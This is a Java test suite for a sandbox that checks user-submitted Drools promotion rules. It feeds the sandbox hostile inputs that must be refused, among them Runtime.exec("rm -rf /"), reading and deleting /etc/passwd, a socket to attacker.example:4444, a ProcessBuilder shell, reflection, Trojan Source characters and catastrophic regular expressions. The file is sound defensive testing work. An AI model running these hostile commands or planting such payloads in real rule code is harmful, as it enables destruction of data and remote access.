package io.promoplatform.rules.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.drools.drl.ast.descr.RuleDescr;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class DrlSandboxTest {

    /** Lines 1 to 6; the rule of every template below starts on line 7. */
    private static final String HEADER = """
            package io.promoplatform.rules.custom;

            import io.promoplatform.rules.facts.LineFact;
            import io.promoplatform.rules.facts.QuoteFact;
            import java.math.BigDecimal;

            """;

    /** Written apart so that javac, which decodes unicode escapes in this file too, leaves them alone. */
    private static final String UNICODE_ESCAPE = "\\" + "u";

    /** A rule whose then part is {@code code}: line 12, from column 5. */
    private static String withThen(String code) {
        return HEADER + """
                rule "Hostile"
                when
                    $q : QuoteFact()
                    $line : LineFact()
                then
                    %s
                end
                """.formatted(code);
    }

    /** A rule whose second pattern has the constraints {@code constraints}: line 10, from column 22. */
    private static String withCondition(String constraints) {
        return HEADER + """
                rule "Hostile"
                when
                    $q : QuoteFact()
                    $line : LineFact(%s)
                then
                    $line.percentOff(drools, new BigDecimal("10"));
                end
                """.formatted(constraints);
    }

    /** A rule whose when part is {@code when}: line 9, from column 5. */
    private static String withWhen(String when) {
        return HEADER + """
                rule "Hostile"
                when
                    %s
                then
                end
                """.formatted(when);
    }

    /** A rule whose only attribute is {@code attribute}: line 8, from column 5. */
    private static String withAttribute(String attribute) {
        return HEADER + """
                rule "Hostile"
                    %s
                when
                    $line : LineFact()
                then
                    $line.percentOff(drools, new BigDecimal("10"));
                end
                """.formatted(attribute);
    }

    /** {@code declaration} on line 6, before a harmless rule. */
    private static String withDeclaration(String declaration) {
        return HEADER.stripTrailing() + "\n" + declaration + "\n" + """
                rule "Harmless"
                when
                    $line : LineFact()
                then
                end
                """;
    }

    record Hostile(String name, String drl, int line, int column, String message) {

        @Override
        public String toString() {
            return name;
        }
    }

    private static void assertRefused(Hostile hostile) {
        assertThat(DrlSandbox.check(hostile.drl()))
                .as(hostile.name())
                .anySatisfy(violation -> {
                    assertThat(violation.message()).contains(hostile.message());
                    assertThat(violation.line()).as("line").isEqualTo(hostile.line());
                    assertThat(violation.column()).as("column").isEqualTo(hostile.column());
                });
    }

    @Nested
    class Consequences {

        static Stream<Hostile> hostileConsequences() {
            return Stream.of(
                    new Hostile("System.exit", withThen("System.exit(0);"), 12, 5,
                            "static call to System.exit is not allowed: a rule may only call methods of the"
                            + " fact model"),
                    new Hostile("Runtime.exec", withThen("Runtime.getRuntime().exec(\"rm -rf /\");"), 12, 5,
                            "static call to Runtime.getRuntime is not allowed"),
                    new Hostile("new java.io.File", withThen("new java.io.File(\"/etc/passwd\").delete();"), 12, 5,
                            "new java.io.File is not allowed: a rule may only create BigDecimal values"),
                    new Hostile("Files.readAllLines",
                            withThen("java.nio.file.Files.readAllLines(java.nio.file.Path.of(\"/etc/passwd\"));"),
                            12, 5, "static call to java.nio.file.Files.readAllLines is not allowed"),
                    new Hostile("Class.forName", withThen("Class.forName(\"java.lang.Runtime\");"), 12, 5,
                            "reflection (Class.forName) is not allowed"),
                    new Hostile("getClass().getClassLoader()", withThen("$line.getClass().getClassLoader();"), 12, 11,
                            "reflection (getClass) is not allowed"),
                    new Hostile("getDeclaredMethod",
                            withThen("LineFact.class.getDeclaredMethod(\"percentOff\").setAccessible(true);"), 12, 5,
                            "reflection (LineFact.class.getDeclaredMethod) is not allowed"),
                    new Hostile("setAccessible on any value", withThen("$line.getListUnitPrice().setAccessible(true);"),
                            12, 30, "reflection (setAccessible) is not allowed"),
                    new Hostile("new Thread", withThen("new Thread(() -> System.exit(0)).start();"), 12, 5,
                            "new Thread is not allowed"),
                    new Hostile("Executors",
                            withThen("java.util.concurrent.Executors.newSingleThreadExecutor();"), 12, 5,
                            "static call to java.util.concurrent.Executors.newSingleThreadExecutor is not allowed"),
                    new Hostile("new java.net.Socket", withThen("new java.net.Socket(\"attacker.example\", 4444);"),
                            12, 5, "new java.net.Socket is not allowed"),
                    new Hostile("ProcessBuilder", withThen("new ProcessBuilder(\"sh\", \"-c\", \"id\").start();"),
                            12, 5, "new ProcessBuilder is not allowed"),
                    new Hostile("Thread.sleep", withThen("Thread.sleep(60000);"), 12, 5,
                            "static call to Thread.sleep is not allowed"),
                    new Hostile("insert(new ArrayList())", withThen("insert(new java.util.ArrayList());"), 12, 5,
                            "insert is not allowed: consequences change facts only through fact-model methods"),
                    new Hostile("insertLogical", withThen("insertLogical($line);"), 12, 5,
                            "insertLogical is not allowed"),
                    new Hostile("retract", withThen("retract($line);"), 12, 5, "retract is not allowed"),
                    new Hostile("delete", withThen("delete($line);"), 12, 5, "delete is not allowed"),
                    new Hostile("update", withThen("update($line);"), 12, 5, "update is not allowed"),
                    new Hostile("modify block", withThen("modify($line) { setQuantity(1) }"), 12, 5,
                            "modify is not allowed"),
                    new Hostile("drools.getKieRuntime", withThen("drools.getKieRuntime().halt();"), 12, 5,
                            "drools.getKieRuntime is not allowed: drools may only be passed to a fact method"),
                    new Hostile("drools outside an argument list", withThen("$line.percentOff(drools + 1, null);"),
                            12, 22, "drools may only be passed to a fact method"),
                    new Hostile("kcontext.getKieRuntime", withThen("kcontext.getKieRuntime().halt();"), 12, 5,
                            "kcontext is not available to rules"),
                    new Hostile("fully qualified System.out", withThen("java.lang.System.out.println(\"hi\");"), 12, 5,
                            "static call to java.lang.System.out.println is not allowed"),
                    new Hostile("unicode escape in code", withThen(UNICODE_ESCAPE + "0053ystem.exit(0);"), 12, 5,
                            "unicode escapes"),
                    new Hostile("unicode escape ending a comment",
                            withThen("// harmless " + UNICODE_ESCAPE + "000a System.exit(0);"), 12, 17,
                            "unicode escapes"),
                    new Hostile("unicode escape ending a string",
                            withThen("String s = \"" + UNICODE_ESCAPE + "0022; System.exit(0); //\";"), 12, 17,
                            "unicode escapes"),
                    new Hostile("lone carriage return ending a comment", withThen("// harmless\rSystem.exit(0);"),
                            12, 16, "a carriage return must be followed by a line feed"),
                    new Hostile("invisible character inside a name", withThen("Sys\u200Btem.exit(0);"), 12, 8,
                            "invisible character U+200B is not allowed"),
                    new Hostile("bidirectional override in a comment (Trojan Source)",
                            withThen("/* \u202E } \u2066 */ $line.percentOff(drools, BigDecimal.ONE);"), 12, 8,
                            "invisible character U+202E is not allowed"),
                    new Hostile("look-alike letter outside a string", withThen("\u0405ystem.exit(0);"), 12, 5,
                            "character U+0405 is not allowed outside strings and comments"),
                    new Hostile("text block", withThen("String s = \"\"\"\n    System.exit(0);\n    \"\"\";"), 12, 16,
                            "text blocks"),
                    new Hostile("MVEL template", withThen("@{System.exit(0)}"), 12, 5,
                            "MVEL templates and annotations (@) are not allowed"),
                    new Hostile("MVEL with block", withThen("with ($line) { quantity = 2 };"), 12, 5,
                            "MVEL with-blocks are not allowed"),
                    new Hostile("loop", withThen("while (true) { $line.percentOff(drools, BigDecimal.ONE); }"), 12, 5,
                            "loops are not allowed"),
                    new Hostile("closing the generated method", withThen("} static { System.exit(0); } {"), 12, 5,
                            "unbalanced '}'"),
                    new Hostile("unbound variable", withThen("$other.percentOff(drools, BigDecimal.ONE);"), 12, 5,
                            "unknown variable $other"),
                    new Hostile("JDK method on a value", withThen("$q.getSegment().intern();"), 12, 21,
                            "intern is not allowed on a value"),
                    new Hostile("huge BigDecimal scale",
                            withThen("$line.percentOff(drools, BigDecimal.ONE.setScale(999999999));"), 12, 45,
                            "the scale given to setScale must be a whole number literal from 0 to 10"),
                    new Hostile("huge BigDecimal exponent",
                            withThen("$line.percentOff(drools, new BigDecimal(\"1E-999999999\"));"), 12, 30,
                            "new BigDecimal takes one plain number literal"),
                    new Hostile("repeated squaring", withThen("BigDecimal x = BigDecimal.TEN; "
                            + "x = x.multiply(x); ".repeat(9)), 12, 194,
                            "more than 8 '+', '*' or multiply operations"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostileConsequences")
        void refusesHostileConsequence(Hostile hostile) {
            assertRefused(hostile);
        }

        @Test
        void explainsRefusalWithLineAndColumnForAnAdmin() {
            assertThat(DrlSandbox.check(withThen("System.exit(0);")))
                    .extracting(SandboxViolation::toString)
                    .containsExactly("line 12, column 5: static call to System.exit is not allowed:"
                            + " a rule may only call methods of the fact model");
        }

        @Test
        void acceptsForbiddenWordsInsideStringsAndComments() {
            String drl = withThen("""
                    // System.exit(0); Runtime.getRuntime().exec("x");
                        /* new java.io.File("/etc/passwd") */ String note = "System.exit(0); \\"drools.halt()";
                        $line.percentOff(drools, new BigDecimal("10"));""");

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void acceptsBigDecimalArithmeticLocalsAndIfElse() {
            String drl = HEADER.replace("import java.math.BigDecimal;",
                    "import java.math.BigDecimal;\nimport java.math.RoundingMode;") + """
                    rule "Tiered"
                    when
                        $q : QuoteFact(segment == "seniors")
                        $l : LineFact(quantity >= 2)
                    then
                        BigDecimal pct = BigDecimal.TEN.add(BigDecimal.valueOf(5)).setScale(2, RoundingMode.HALF_UP);
                        int free = $l.getQuantity() / 3;
                        boolean vip = "seniors".equals($q.getSegment());
                        if (vip && free >= 1) {
                            $l.buyXGetY(drools, 3, 1, pct);
                        } else {
                            $l.percentOff(drools, new java.math.BigDecimal("5"));
                        }
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }
    }

    @Nested
    class Conditions {

        static Stream<Hostile> hostileConditions() {
            return Stream.of(
                    new Hostile("static call", withCondition("sku == System.getProperty(\"user.home\")"), 10, 29,
                            "static call to System.getProperty is not allowed"),
                    new Hostile("fully qualified static call", withCondition("sku == java.lang.System.lineSeparator()"),
                            10, 29, "static call to java.lang.System.lineSeparator is not allowed"),
                    new Hostile("new", withCondition("sku == new String(\"x\")"), 10, 29,
                            "'new' is not allowed in a condition"),
                    new Hostile("method call on a field", withCondition("sku.toUpperCase() == \"A\""), 10, 22,
                            "method call sku.toUpperCase(...) is not allowed in a condition"),
                    new Hostile("reflection through properties", withCondition("this.class.classLoader != null"),
                            10, 22, "reflection (this.class.classLoader) is not allowed"),
                    new Hostile("getClass getter", withCondition("getClass() != null"), 10, 22,
                            "reflection (getClass) is not allowed"),
                    new Hostile("inline cast", withCondition("brand#String.length > 0"), 10, 27,
                            "inline casts (#) are not allowed"),
                    new Hostile("catastrophic regular expression", withCondition("sku matches \"(a+)+$\""), 10, 34,
                            "regular expressions may not repeat a group"),
                    new Hostile("unbound variable", withCondition("sku == $nope.sku"), 10, 29,
                            "unknown variable $nope"),
                    new Hostile("property of a value", withCondition("$s : sku, $s.bytes != null"), 10, 32,
                            "$s holds a value, not a fact"),
                    new Hostile("binding without $", withCondition("s : sku"), 10, 22,
                            "binding name s must start with $"),
                    new Hostile("drools in a condition", withCondition("sku == drools"), 10, 29,
                            "drools is not available in conditions"),
                    new Hostile("unicode escape in a string", withCondition("sku == \"" + UNICODE_ESCAPE + "0041\""),
                            10, 30, "unicode escapes"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostileConditions")
        void refusesHostileCondition(Hostile hostile) {
            assertRefused(hostile);
        }

        static Stream<Hostile> hostileWhenParts() {
            return Stream.of(
                    new Hostile("eval", withWhen("eval(true)"), 9, 5,
                            "eval is not allowed: a condition may only compare fact properties"),
                    new Hostile("from new ArrayList", withWhen("$x : LineFact() from new java.util.ArrayList()"), 9, 5,
                            "from is not allowed: a rule matches only the facts the engine inserts"),
                    new Hostile("collect", withWhen("$all : java.util.List() from collect(LineFact())"), 9, 5,
                            "collect is not allowed"),
                    new Hostile("accumulate with custom code", withWhen("$n : Number() from accumulate("
                            + "LineFact($qty : quantity), init(int t = 0;), action(t += $qty;), result(t))"), 9, 24,
                            "accumulate with init/action/result code is not allowed"),
                    new Hostile("classic from accumulate",
                            withWhen("Number(intValue > 3) from accumulate(LineFact($qty : quantity), sum($qty))"),
                            9, 5, "only the form accumulate( LineFact($q : quantity) ; $total : sum($q) ) is allowed"),
                    new Hostile("accumulate function outside the list",
                            withWhen("accumulate(LineFact($qty : quantity); $all : collectList($qty))"), 9, 5,
                            "accumulate function collectList is not allowed"),
                    new Hostile("JDK type as pattern", withWhen("Thread()"), 9, 5,
                            "Thread is not a fact-model type"),
                    new Hostile("entry point", withWhen("LineFact() from entry-point \"orders\""), 9, 5,
                            "entry points are not allowed"),
                    new Hostile("sliding window", withWhen("LineFact() over window:length(3)"), 9, 5,
                            "sliding windows (over window:...) are not allowed"),
                    new Hostile("OOPath", withWhen("$l : /lines[ quantity > 1 ]"), 9, 5,
                            "OOPath expressions (/...) are not allowed"),
                    new Hostile("named consequence", withWhen("$l : LineFact()\n    if (quantity > 1) do[big]"), 10, 5,
                            "named consequences (if ... do[name], break[name]) are not allowed"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostileWhenParts")
        void refusesHostileWhenPart(Hostile hostile) {
            assertRefused(hostile);
        }

        @Test
        void refusesJavaLangTypesEvenWithTheWholeFactPackageImported() {
            String drl = HEADER.replace("import io.promoplatform.rules.facts.LineFact;",
                    "import io.promoplatform.rules.facts.*;") + """
                    rule "Everything"
                    when
                        Object()
                    then
                    end
                    """;

            assertThat(DrlSandbox.check(drl))
                    .containsExactly(new SandboxViolation(9, 5,
                            "Object is not a fact-model type: import it from io.promoplatform.rules.facts"));
        }
    }

    @Nested
    class Declarations {

        static Stream<Hostile> hostileDeclarations() {
            return Stream.of(
                    new Hostile("import java.lang.System", withDeclaration("import java.lang.System;"), 6, 1,
                            "import java.lang.System is not allowed: only the fact model"),
                    new Hostile("import static", withDeclaration("import static java.lang.Math.max;"), 6, 1,
                            "import function/import static java.lang.Math.max is not allowed"),
                    new Hostile("import function", withDeclaration("import function java.lang.System.exit;"), 6, 1,
                            "import function/import static java.lang.System.exit is not allowed"),
                    new Hostile("function", withDeclaration("function void x() { System.exit(0); }"), 6, 1,
                            "function x is not allowed"),
                    new Hostile("global", withDeclaration("global java.util.List out;"), 6, 1,
                            "global out is not allowed"),
                    new Hostile("declare type", withDeclaration("declare Foo end"), 6, 9,
                            "declare Foo is not allowed: rules use only the fact model's types"),
                    new Hostile("query", withDeclaration("query \"lines\" LineFact() end"), 6, 1,
                            "query lines is not allowed"),
                    new Hostile("package-level dialect", withDeclaration("dialect \"mvel\""), 6, 9,
                            "package-level attribute dialect is not allowed"),
                    new Hostile("wrong package", "package org.evil;\n" + withDeclaration("").lines().skip(1)
                            .collect(Collectors.joining("\n")), 1, 1,
                            "package org.evil is not allowed: use package io.promoplatform.rules.custom;"),
                    new Hostile("missing package", withDeclaration("").replace(
                            "package io.promoplatform.rules.custom;", ""), 1, 1,
                            "the DRL must start with: package io.promoplatform.rules.custom;"),
                    new Hostile("rule inheritance", withDeclaration("").replace("rule \"Harmless\"",
                            "rule \"Harmless\" extends \"Base\""), 7, 1, "may not extend another rule"),
                    new Hostile("rule annotation", withDeclaration("").replace("rule \"Harmless\"",
                            "rule \"Harmless\" @Propagation(IMMEDIATE)"), 7, 17,
                            "annotation @Propagation is not allowed"),
                    new Hostile("rule name with code characters", withDeclaration("").replace("rule \"Harmless\"",
                            "rule \"x{}\""), 7, 1, "rule names may have"));
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("hostileDeclarations")
        void refusesHostileDeclaration(Hostile hostile) {
            assertRefused(hostile);
        }

        static Stream<Hostile> refusedAttributes() {
            return Stream.of("dialect \"mvel\"", "timer (int: 0 1s)", "calendars \"weekdays\"", "duration 1000",
                            "enabled false", "agenda-group \"promo\"", "ruleflow-group \"promo\"",
                            "activation-group \"promo\"", "lock-on-active true", "auto-focus true",
                            "date-effective \"1-Jan-2030\"")
                    .map(attribute -> {
                        String name = attribute.substring(0, attribute.indexOf(' '));
                        return new Hostile(name, withAttribute(attribute), 8, 5,
                                "rule attribute " + name + " is not allowed: only salience and no-loop");
                    });
        }

        @ParameterizedTest(name = "{0}")
        @MethodSource("refusedAttributes")
        void refusesAttributeOutsideSalienceAndNoLoop(Hostile hostile) {
            assertRefused(hostile);
        }

        @Test
        void refusesSalienceExpression() {
            assertRefused(new Hostile("salience expression", withAttribute("salience ($line.getQuantity())"), 8, 5,
                    "salience must be a whole number such as 200, not an expression"));
        }

        @Test
        void refusesDuplicateRuleNames() {
            String drl = HEADER + """
                    rule "Same" when LineFact() then end
                    rule "Same" when QuoteFact() then end
                    """;

            assertThat(DrlSandbox.check(drl))
                    .containsExactly(new SandboxViolation(8, 1, "rule name Same is already used on line 7"));
        }
    }

    @Nested
    class Limits {

        @Test
        void refusesMoreThan64KiB() {
            String drl = withThen("// " + "x".repeat(DrlSandbox.MAX_BYTES));

            assertThat(DrlSandbox.check(drl)).singleElement().satisfies(violation -> {
                assertThat(violation.message()).contains("at most 65536 (64 KiB) are accepted");
                assertThat(violation.line()).isEqualTo(1);
                assertThat(violation.column()).isEqualTo(1);
            });
        }

        @Test
        void refusesMoreThan100Rules() {
            String rules = IntStream.rangeClosed(1, 101)
                    .mapToObj(i -> "rule \"R" + i + "\" when LineFact() then end\n")
                    .collect(Collectors.joining());

            assertThat(DrlSandbox.check(HEADER + rules))
                    .containsExactly(new SandboxViolation(107, 1, "more than 100 rules in one submission: split it"));
        }

        @Test
        void refusesNestingTheParserCouldNotSurvive() {
            String drl = withCondition("(".repeat(5000) + "quantity > 1" + ")".repeat(5000));

            assertThat(DrlSandbox.check(drl))
                    .containsExactly(new SandboxViolation(10, 53, "brackets are nested more than 32 levels deep"));
        }
    }

    @Nested
    class Parsing {

        @Test
        void reportsParseErrorsAtTheirPosition() {
            String drl = HEADER + """
                    rule "Broken"
                    when
                        $line : LineFact(quantity > )
                    then
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).first().satisfies(violation -> {
                assertThat(violation.message()).startsWith("syntax error: ");
                assertThat(violation.line()).isEqualTo(9);
                assertThat(violation.column()).isEqualTo(33);
            });
        }

        @Test
        void hasNoParseTreeToCompileWhenTheTextDoesNotParse() {
            SandboxReport report = DrlSandbox.inspect(HEADER + "rule \"Broken\" when then");

            assertThat(report.accepted()).isFalse();
            assertThat(report.packageDescr()).isNull();
        }
    }

    @Nested
    class AcceptedRules {

        private static final String SENIORS = HEADER + """
                rule "Seniors ten off"
                when
                    $q : QuoteFact(segment == "seniors")
                    $l : LineFact(sku in ("A","B"), quantity >= 2, elasticity <= -3.0)
                then
                    $l.percentOff(drools, new BigDecimal("10"));
                end
                """;

        @Test
        void refusesAThirdLineFactPatternThatWouldJoinEveryLineWithEveryPair() {
            var violations = DrlSandbox.check(withWhen("LineFact() LineFact() $l : LineFact()"));

            assertThat(violations).singleElement().satisfies(v -> {
                assertThat(v.line()).isEqualTo(9);
                assertThat(v.message()).contains("at most 2 LineFact patterns");
            });
        }

        @Test
        void acceptsTwoLineFactPatternsForCartCombinations() {
            assertThat(DrlSandbox.check(withWhen("$a : LineFact(sku == \"A\") $b : LineFact(sku == \"B\")")))
                    .isEmpty();
        }

        @Test
        void acceptsTheTenPercentSeniorsRule() {
            assertThat(DrlSandbox.check(SENIORS)).isEmpty();
        }

        @Test
        void acceptsSalienceAndNoLoop() {
            String drl = SENIORS.replace("rule \"Seniors ten off\"", "rule \"Seniors ten off\"\n    salience 200\n"
                    + "    no-loop");

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void acceptsNegativeSalience() {
            assertThat(DrlSandbox.check(withAttribute("salience -10"))).isEmpty();
        }

        @Test
        void acceptsTwoRulesInOneFile() {
            String drl = SENIORS + """

                    rule "Web five off"
                    when
                        QuoteFact(channel == "web")
                        $line : LineFact()
                    then
                        $line.amountOffUnit(drools, new BigDecimal("0.50"));
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void acceptsCommentsThatMentionForbiddenThings() {
            String drl = HEADER + """
                    // System.exit(0); import java.lang.System; eval(true)
                    /* function void x() { Runtime.getRuntime().exec("rm"); } */
                    rule "Commented"
                    when
                        $l : LineFact(quantity > 1) // from new java.util.ArrayList()
                    then
                        // drools.getKieRuntime().halt(); new java.io.File("/etc/passwd");
                        $l.percentOff(drools, new BigDecimal("10")); /* Class.forName("x") */
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void acceptsStringLiteralContainingSystemExit() {
            String drl = HEADER + """
                    rule "Quoted"
                    when
                        $l : LineFact(brand != "System.exit(0)")
                    then
                        String note = "System.exit(0)";
                        $l.percentOff(drools, new BigDecimal("10"));
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void acceptsTheWholeFactPackageGettersAndConditionalElements() {
            String drl = HEADER.replace("import io.promoplatform.rules.facts.LineFact;",
                    "import io.promoplatform.rules.facts.*;") + """
                    rule "Loyal basket"
                    when
                        $q : QuoteFact(customerTags contains "vip" || channel == 'web', couponCodes not contains "X")
                        $l : LineFact(getBrand() != null, $sku : sku, sku not in ("Z"), sku matches "OJ-[A-Z]+")
                        not LineFact(this != $l, sku == $sku)
                        exists (QuoteFact(segment == "seniors") or QuoteFact($q.segment == "families"))
                        accumulate( LineFact( $qty : quantity ) ; $total : sum($qty), $lines : count() ; $total > 2 )
                    then
                        $l.percentOff(drools, BigDecimal.valueOf(5));
                    end
                    """;

            assertThat(DrlSandbox.check(drl)).isEmpty();
        }

        @Test
        void handsOverTheParseTreeWithRuleNamesAndSalience() {
            SandboxReport report = DrlSandbox.inspect(SENIORS.replace("rule \"Seniors ten off\"",
                    "rule \"Seniors ten off\" salience 200"));

            assertThat(report.accepted()).isTrue();
            assertThat(report.packageDescr().getName()).isEqualTo("io.promoplatform.rules.custom");
            assertThat(report.packageDescr().getRules())
                    .extracting(RuleDescr::getName, RuleDescr::getSalience)
                    .containsExactly(tuple("Seniors ten off", "200"));
        }
    }
}
